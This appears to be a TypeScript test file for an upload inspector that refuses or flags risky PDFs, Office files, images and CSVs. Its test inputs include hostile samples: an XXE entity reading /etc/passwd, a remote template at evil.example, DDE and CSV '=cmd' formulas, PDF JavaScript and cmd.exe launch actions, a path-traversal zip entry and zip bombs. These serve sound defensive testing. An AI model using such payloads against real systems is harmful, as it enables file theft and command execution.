import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import jpeg from 'jpeg-js'
import { PDFName, PDFString } from 'pdf-lib'
import { PNG } from 'pngjs'
import { inspectUpload } from './inspect.ts'
import { lyingZip, openFile, slides, wordFile, wordParagraph, workbook, zipOf } from './testing/office-files.ts'
import { annotate, oddPages, pdfOf, scannedPdf } from './testing/pdf-files.ts'
import { makeTurns } from './turns.ts'

const folder = mkdtempSync(join(tmpdir(), 'uploads-'))
after(() => rmSync(folder, { recursive: true }))
let files = 0
async function check(name: string, bytes: Uint8Array) {
  files += 1
  const path = join(folder, String(files))
  writeFileSync(path, bytes)
  return inspectUpload({ name, size: bytes.byteLength, path, tooLarge: false })
}
async function refused(name: string, bytes: Uint8Array): Promise<string> {
  const outcome = await check(name, bytes)
  return outcome.ok ? `taken as ${outcome.kind}` : outcome.code
}
async function taken(name: string, bytes: Uint8Array) {
  const outcome = await check(name, bytes)
  assert.ok(outcome.ok, `${name}: ${JSON.stringify(outcome)}`)
  return outcome
}
async function warnings(name: string, bytes: Uint8Array): Promise<readonly string[]> {
  return (await taken(name, bytes)).findings.warnings.map(({ code }) => code)
}
const png = (width: number, height: number): Buffer => PNG.sync.write(new PNG({ width, height, fill: true }))

test('M4: files are known by their content, and counted', async () => {
  const pdf = await taken('Plan.PDF', await pdfOf(3))
  assert.deepEqual(
    [pdf.kind, pdf.pages, pdf.mediaType, pdf.findings.hasText, pdf.findings.tagged],
    ['pdf', 3, 'application/pdf', true, false],
  )
  assert.deepEqual(pdf.findings.warnings, [])
  assert.equal((await taken('a.docx', await wordFile(wordParagraph('Words')))).kind, 'docx')
  const book = await taken('a.xlsx', await workbook())
  assert.deepEqual([book.kind, book.findings.parts], ['spreadsheet', 1])
  assert.equal((await taken('a.pptx', await slides())).findings.parts, 1)
  assert.equal((await taken('a.ods', await openFile('spreadsheet', '<table:table table:name="x">'))).kind, 'spreadsheet')
  assert.equal((await taken('a.odp', await openFile('presentation', '<office:presentation><draw:page />'))).kind, 'slides')
  assert.equal((await taken('spend.csv', Buffer.from('Ward,Spend\nNorth,5\n'))).mediaType, 'text/csv')
  assert.equal((await taken('spend.csv', Buffer.from('Ward;Spend\nCaf\xe9;\xa35\n', 'latin1'))).kind, 'spreadsheet')
})

test('M4: a wrong type, and a name that says something else than the content, are refused', async () => {
  const pdf = await pdfOf(1)
  const expected: readonly (readonly [string, string, Uint8Array])[] = [
    ['file-empty', 'a.pdf', Buffer.alloc(0)],
    ['file-unknown', 'a.txt', Buffer.from('words')],
    ['file-unknown', 'a.exe', Buffer.from('MZ\x90\0\x03')],
    ['file-unknown', 'a.html', Buffer.from('<script>alert(1)</script>')],
    ['file-unknown', 'a.csv', Buffer.from('one column only')],
    ['file-unknown', 'a.csv', Buffer.from([0, 1, 2, 3])],
    ['file-other-image', 'a.gif', Buffer.from('GIF89a....')],
    ['file-other-image', 'a.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
    ['file-other-image', 'a.heic', Buffer.from('\0\0\0\x18ftypheic')],
    ['file-archive', 'a.zip', await zipOf({ 'a.txt': 'x' })],
    ['file-archive', 'a.7z', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])],
    ['file-old-office', 'a.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])],
    ['file-name-disagrees', 'a.docx', pdf],
    ['file-name-disagrees', 'a.pdf.exe', pdf],
    ['file-name-disagrees', 'noend', pdf],
    ['file-name-disagrees', 'a.pdf', await workbook()],
    ['file-name-disagrees', 'a.docx', await workbook()],
    ['file-name-disagrees', 'a.jpg', png(2, 2)],
  ]
  for (const [code, name, bytes] of expected) assert.equal(await refused(name, bytes), code, name)
})

test('M4: passwords, damage and macros are refused', async () => {
  const cfb = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('EncryptedPackage', 'utf16le')])
  assert.equal(await refused('a.docx', cfb), 'file-encrypted')
  assert.equal(await refused('a.ods', await openFile('spreadsheet', '', '<manifest:encryption-data/>')), 'file-encrypted')
  const locked = await pdfOf(1, (document) => {
    document.context.trailerInfo.Encrypt = document.context.register(
      document.context.obj({ Filter: 'Standard', V: 1, R: 2, O: PDFString.of('x'), U: PDFString.of('x'), P: -4 }),
    )
  })
  assert.equal(await refused('a.pdf', locked), 'file-encrypted')
  assert.equal(await refused('a.pdf', (await pdfOf(2)).subarray(0, 300)), 'file-damaged')
  assert.equal(await refused('a.pdf', Buffer.from('%PDF-1.7 nothing')), 'file-damaged')
  assert.equal(await refused('a.xlsx', (await workbook()).subarray(0, 400)), 'file-damaged')
  assert.equal(await refused('a.png', png(10, 10).subarray(0, 60)), 'file-damaged')
  assert.equal(await refused('a.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16])), 'file-damaged')
  assert.equal(await refused('a.docx', await wordFile('', { 'word/vbaProject.bin': 'x' })), 'file-macros')
  assert.equal(
    await refused(
      'a.xlsm',
      await workbook({ '[Content_Types].xml': '<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>' }),
    ),
    'file-macros',
  )
  assert.equal(await refused('a.xlsx', await workbook({ 'xl/macrosheets/sheet1.xml': '<x/>' })), 'file-macros')
})

test('M4: bombs, liars, nests, entities and parts from elsewhere are refused', async () => {
  const zeros = Buffer.alloc(80_000_000)
  assert.equal(await refused('a.xlsx', await workbook({ 'xl/media/a.bin': zeros })), 'file-bomb')
  assert.equal(await refused('a.xlsx', await lyingZip(30_000_000)), 'file-damaged')
  const many = Object.fromEntries(Array.from({ length: 5001 }, (_, index) => [`xl/x${index}`, '']))
  assert.equal(await refused('a.xlsx', await workbook(many)), 'file-bomb')
  const inner = await workbook({ 'xl/media/a.bin': zeros })
  assert.equal(await refused('a.docx', await wordFile('', { 'word/embeddings/book.xlsx': inner })), 'file-bomb')
  assert.equal(await refused('a.docx', await wordFile('', { 'word/media/hidden.zip': await zipOf({ a: 'x' }) })), 'file-nested')
  const deep = await workbook({ 'xl/embeddings/b.xlsx': await workbook({ 'xl/embeddings/c.xlsx': await workbook() }) })
  assert.equal(await refused('a.xlsx', deep), 'file-nested')
  const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
  assert.equal(await refused('a.xlsx', await workbook({ 'xl/worksheets/sheet1.xml': entity })), 'file-entities')
  const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(entity, 'utf16le')])
  assert.equal(await refused('a.xlsx', await workbook({ 'xl/worksheets/sheet1.xml': wide })), 'file-entities')
  const remote =
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  assert.equal(await refused('a.docx', await wordFile('', { 'word/_rels/settings.xml.rels': remote })), 'file-remote')
  assert.equal(
    await refused(
      'a.xlsx',
      await workbook({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
    ),
    'file-remote',
  )
  assert.equal(
    await refused('a.docx', await wordFile('', { '../../etc/cron.d/x': 'x' }).catch(() => Buffer.from('PK\x03\x04'))),
    'file-damaged',
  )
})

test('M4: what a spreadsheet, slides or a Word file hides is told', async () => {
  const hidden = await workbook({
    'xl/workbook.xml':
      '<workbook><sheets><sheet name="A" sheetId="1"/><sheet name="Names" sheetId="2" state="veryHidden"/></sheets></workbook>',
    'xl/worksheets/sheet1.xml':
      '<worksheet><cols><col min="2" max="3" hidden="1"/></cols><sheetData><row r="1" hidden="true"/></sheetData></worksheet>',
    'xl/comments1.xml': '<comments><commentList><comment ref="A1"/></commentList></comments>',
    'xl/pivotCache/pivotCacheRecords1.xml': '<x/>',
    'xl/_rels/workbook.xml.rels':
      '<R><Relationship Type="http://x/externalLinkPath" Target="file:///c:/a.xlsx" TargetMode="External"/></R>',
  })
  assert.deepEqual(await warnings('a.xlsx', hidden), ['hidden-sheets', 'hidden-rows', 'comments', 'pivot-data', 'external-links'])
  const talk = await slides({
    'ppt/slides/slide2.xml': '<p:sld xmlns:p="x" show="0"><a:t>Secret</a:t></p:sld>',
    'ppt/notesSlides/notesSlide1.xml': '<p:notes><a:t>Say this</a:t></p:notes>',
    'ppt/comments/comment1.xml': '<p:cmLst><p:cm authorId="0"/></p:cmLst>',
    'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': await workbook(),
  })
  assert.deepEqual(await warnings('a.pptx', talk), ['hidden-slides', 'comments', 'speaker-notes', 'embedded-workbooks'])
  const word = await wordFile(
    '<w:p><w:ins w:author="A"><w:r><w:t>New</w:t></w:r></w:ins><w:del w:author="A"><w:r><w:delText>Old</w:delText></w:r></w:del></w:p><w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Hidden</w:t></w:r></w:p>',
    { 'word/comments.xml': '<w:comments><w:comment w:id="1"/></w:comments>' },
  )
  assert.deepEqual(await warnings('a.docx', word), ['hidden-text', 'comments', 'tracked-changes'])
  const open = await openFile(
    'spreadsheet',
    '<style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/></style:style><table:table table:name="B" table:style-name="ta2"><table:table-row table:visibility="collapse"/><office:annotation>x</office:annotation>',
  )
  assert.deepEqual(await warnings('a.ods', open), ['hidden-sheets', 'hidden-rows', 'comments'])
  assert.deepEqual(await warnings('a.csv', Buffer.from('Name,Sum\n=cmd|x,-5\n')), ['formulas'])
})

test('M4: what a PDF does or carries is refused', async () => {
  const action = (what: object) =>
    pdfOf(1, (document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj(what as never)))
  assert.equal(await refused('a.pdf', await action({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })), 'pdf-scripts')
  assert.equal(await refused('a.pdf', await action({ S: 'Launch', F: PDFString.of('cmd.exe') })), 'pdf-launches')
  assert.equal(await refused('a.pdf', await action({ S: 'URI', URI: PDFString.of('javascript:alert(1)') })), 'pdf-scripts')
  const carrying = await pdfOf(1, (document) => document.attach(Buffer.from('secret'), 'all-names.csv'))
  assert.equal(await refused('a.pdf', carrying), 'pdf-attachments')
  const film = await pdfOf(1, (document, page) => annotate(document, page, { Subtype: 'RichMedia' }))
  assert.equal(await refused('a.pdf', film), 'pdf-media')
})

test('M4: boxes over words are no redaction', async () => {
  for (const annotation of [
    { Subtype: 'Redact' },
    { Subtype: 'Square', IC: [0, 0, 0] },
    { Subtype: 'Highlight', C: [0, 0, 0] },
    { Subtype: 'FreeText', C: [1, 1, 1] },
  ]) {
    const pdf = await pdfOf(2, (document, page) => annotate(document, page, annotation))
    assert.equal(await refused('a.pdf', pdf), 'pdf-covered-text', annotation.Subtype)
  }
  const yellow = await pdfOf(1, (document, page) => annotate(document, page, { Subtype: 'Highlight', C: [1, 1, 0] }))
  assert.deepEqual(await warnings('a.pdf', yellow), ['pdf-comments'])
})

test('M4: what a PDF hides is told', async () => {
  const cropped = await pdfOf(1, (_, page) => page.setCropBox(0, 0, 595, 400))
  assert.deepEqual(await warnings('a.pdf', cropped), ['pdf-cropped-text'])
  const layered = await pdfOf(1, (document) => {
    const layer = document.context.register(document.context.obj({ Type: 'OCG', Name: PDFString.of('Names') }))
    document.catalog.set(PDFName.of('OCProperties'), document.context.obj({ OCGs: [layer], D: { OFF: [layer] } }))
  })
  assert.deepEqual(await warnings('a.pdf', layered), ['pdf-hidden-layers'])
  const form = await pdfOf(1, (document, page) => document.getForm().createTextField('name').addToPage(page))
  assert.deepEqual(await warnings('a.pdf', form), ['pdf-form'])
  const first = await pdfOf(1)
  const again = `\nstartxref\n${first.lastIndexOf('xref\n0')}\n%%EOF\n`
  const twice = Buffer.concat([first, Buffer.from(again)])
  const { findings } = await taken('a.pdf', twice)
  assert.deepEqual([findings.warnings, findings.leftOut], [[], ['earlier-versions']])
})

test('M4: a picture of words is said to have none; A0 and sideways pages are fine and told', async () => {
  const { findings } = await taken('scan.pdf', await scannedPdf(png(20, 30)))
  assert.deepEqual([findings.hasText, findings.scannedPages], [false, [1]])
  const odd = await taken('plan.pdf', await oddPages())
  assert.deepEqual([odd.pages, odd.findings.largePages, odd.findings.sidewaysPages], [3, [2], [3]])
})

test('M4: pictures are made anew, upright and without what the camera noted', async () => {
  const data = new Uint8Array(4 * 2 * 4).fill(255)
  const plain = Buffer.from(jpeg.encode({ width: 4, height: 2, data }, 90).data)
  const exif = Buffer.from('457869660000' + '49492a0008000000' + '0100' + '1201030001000000060000' + '00' + '00000000', 'hex')
  const place = Buffer.concat([exif, Buffer.from('GPS 52.1 N Secret Street')])
  const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0, place.length + 2]), place])
  const photo = await taken('photo.jpeg', Buffer.concat([plain.subarray(0, 2), segment, plain.subarray(2)]))
  assert.deepEqual([photo.findings.width, photo.findings.height], [2, 4])
  assert.ok(photo.redrawn && !Buffer.from(photo.redrawn).includes('Secret Street'))
  const drawn = await taken('chart.png', png(30, 20))
  assert.deepEqual([drawn.findings.width, drawn.findings.height, drawn.extension], [30, 20, 'png'])
  const huge = Buffer.from(png(2, 2))
  huge.writeUInt32BE(60_000, 16)
  huge.writeUInt32BE(60_000, 20)
  assert.equal(await refused('huge.png', huge), 'file-image-too-large')
})

test('M4: truncated and bit-flipped files always get an answer', { timeout: 300_000 }, async () => {
  const seeds: readonly (readonly [string, Buffer])[] = [
    ['a.pdf', await pdfOf(2)],
    ['a.xlsx', await workbook()],
    ['a.docx', await wordFile(wordParagraph('Words'))],
    ['a.png', png(8, 8)],
    ['a.jpg', Buffer.from(jpeg.encode({ width: 8, height: 8, data: new Uint8Array(256) }, 80).data)],
    ['a.csv', Buffer.from('a,b\n1,2\n')],
  ]
  let state = 12345
  const random = (below: number): number => {
    state = (state * 1103515245 + 12345) % 2147483648
    return state % below
  }
  const rounds = Number(process.env.FUZZ ?? 8)
  for (let round = 0; round < rounds; round += 1) {
    await Promise.all(
      seeds.map(async ([name, seed]) => {
        const bytes = Buffer.from(round % 2 === 0 ? seed : seed.subarray(0, 1 + random(seed.length)))
        for (let flips = random(6); flips >= 0; flips -= 1) bytes[random(bytes.length)] = random(256)
        const outcome = await check(name, bytes)
        assert.ok(outcome.ok || outcome.code.length > 3)
      }),
    )
  }
})

test('M4: whoever comes when too many wait is told so', async () => {
  const turns = makeTurns(1, 1)
  let open = (): void => {}
  const first = turns.take(() => new Promise<string>((resolve) => (open = () => resolve('first'))))
  const second = turns.take(async () => 'second')
  assert.equal(await turns.take(async () => 'third'), undefined)
  open()
  assert.deepEqual(await Promise.all([first, second]), ['first', 'second'])
  assert.equal(await turns.take(async () => 'fourth'), 'fourth')
})
